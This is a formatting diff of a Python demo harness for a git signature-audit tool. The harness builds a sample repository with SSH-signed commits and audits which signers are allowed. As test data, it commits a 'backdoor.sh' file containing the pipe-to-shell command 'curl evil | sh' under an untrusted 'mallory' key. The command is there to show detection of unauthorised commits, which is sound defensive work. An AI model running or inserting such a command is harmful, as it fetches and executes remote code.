@@ -49,8 +49,13 @@ class _Env:
     def run(self, *cmd: str, stdin: bytes | None = None, cwd: Path | None = None) -> bytes:
         try:
             proc = subprocess.run(
-                cmd, cwd=cwd or self.repo, env=self.env, input=stdin,
-                capture_output=True, check=False, timeout=60,
+                cmd,
+                cwd=cwd or self.repo,
+                env=self.env,
+                input=stdin,
+                capture_output=True,
+                check=False,
+                timeout=60,
             )
         except FileNotFoundError as e:
             raise GuardError(
@@ -66,15 +71,19 @@ class _Env:
     def keygen(self, name: str) -> Path:
         key = self.root / "keys" / name
         key.parent.mkdir(exist_ok=True)
-        self.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key),
-                 cwd=self.root)
+        self.run(
+            "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key), cwd=self.root
+        )
         return key
 
     def commit(self, path: str, text: str, message: str, key: Path | None) -> None:
         (self.repo / path).write_text(text)
         self.run("git", "add", path)
-        sign = ["-c", f"user.signingkey={key}.pub", "commit", "-S"] if key else [
-            "commit", "--no-gpg-sign"]
+        sign = (
+            ["-c", f"user.signingkey={key}.pub", "commit", "-S"]
+            if key
+            else ["commit", "--no-gpg-sign"]
+        )
         self.run("git", *sign, "-q", "-m", message)
 
 
@@ -105,8 +114,7 @@ def build(root: Path) -> tuple[Path, Path]:
     env.run("git", "reset", "-q", "--hard")
     env.commit("backdoor.sh", "curl evil | sh\n", "Add a backdoor", mallory)
     env.commit("VERSION", "1.0\n", "Release 1.0", alice)
-    env.run("git", "-c", f"user.signingkey={alice}.pub", "tag", "-s", "-m", "Version 1.0",
-            "v1.0")
+    env.run("git", "-c", f"user.signingkey={alice}.pub", "tag", "-s", "-m", "Version 1.0", "v1.0")
     return env.repo, allowed
 
 
@@ -131,9 +139,7 @@ def run_demo(keep: Path | None, out: IO[str]) -> int:
         out.write("\ngit's own view (`git log --format='%h %G? %s'`, ~1 process per commit):\n")
         for line in gitview.splitlines():
             out.write(f"  {line}\n")
-        out.write(
-            f"\n$ guard -C {repo_path} audit --all --allowed-signers {allowed}\n\n"
-        )
+        out.write(f"\n$ guard -C {repo_path} audit --all --allowed-signers {allowed}\n\n")
         trust = load_key_files([allowed], [])
         repo = open_repo(repo_path)
         report = TextReport(out, color=False)
@@ -145,7 +151,10 @@ def run_demo(keep: Path | None, out: IO[str]) -> int:
                 seen[v.subject] = v.status.value
 
         summary = run_audit(
-            AuditSpec(repo=repo, trust=trust, policy=None), [], all_refs=True, jobs=1,
+            AuditSpec(repo=repo, trust=trust, policy=None),
+            [],
+            all_refs=True,
+            jobs=1,
             sink=sink,
         )
         report.finish(summary)
